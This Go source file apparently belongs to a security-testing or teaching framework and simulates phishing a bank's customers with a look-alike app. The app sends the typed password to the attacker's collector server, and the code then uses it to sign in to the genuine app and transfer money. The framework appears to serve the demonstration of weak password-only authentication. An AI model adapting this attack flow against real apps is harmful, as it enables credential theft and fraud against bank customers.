package attacker

import (
	"context"
	"fmt"
	"path/filepath"

	"keyladder/mobileclient/attacker/lookalike"
	"keyladder/stages/catalog"
)

// passwordGrab puts an app into the store that looks like the bank's: its label, its
// screens, another program. Anyone who signs in with it hands over the password. The
// attacker types that into the genuine app, on a phone of their own: there is nothing
// to break, because the password is all that says who is signing in.
//
//keyladder:code attack-password-grab
func passwordGrab(ctx context.Context, g *Given) (Result, error) {
	collector, err := lookalike.NewCollector("")
	if err != nil {
		return Result{}, err
	}
	defer collector.Close()
	path := filepath.Join(g.Dir, "look-alike.pkg")
	if err := lookalike.Pack(g.Package, path, collector.URL()); err != nil {
		return Result{}, err
	}
	g.Say("Packed an app of our own under the label and with the assets of the bank's, and signed it with a key of our own.")
	if err := g.LookAlike.Used(ctx, path); err != nil {
		return Result{}, fmt.Errorf("the victim does not use the look-alike app: %w", err)
	}
	grabbed, ok := collector.Latest()
	if !ok {
		return Result{Check: catalog.CheckHidden, Obstacle: "the victim typed no password into the look-alike app"}, nil
	}
	g.Say("The victim signed in with it as %s; the name and the password came to our own server.", grabbed.User)
	phone, err := g.open(ctx, g.Package, nil)
	if err != nil {
		return Result{}, err
	}
	defer phone.close()
	if err := phone.signInAs(ctx, grabbed.User, grabbed.Password); err != nil {
		return stopped(err)
	}
	g.Say("Signed in as %s with the genuine app on our own phone.", grabbed.User)
	payment, err := phone.payment(ctx, pittance)
	if err != nil {
		return stopped(err)
	}
	if _, err := shown(phone.app.Transfer(ctx, payment)); err != nil {
		return stopped(err)
	}
	g.Say("Transferred %d minor units from %s to %s with it.", payment.Amount, payment.From, payment.To)
	return Result{Claim: true}, nil
}
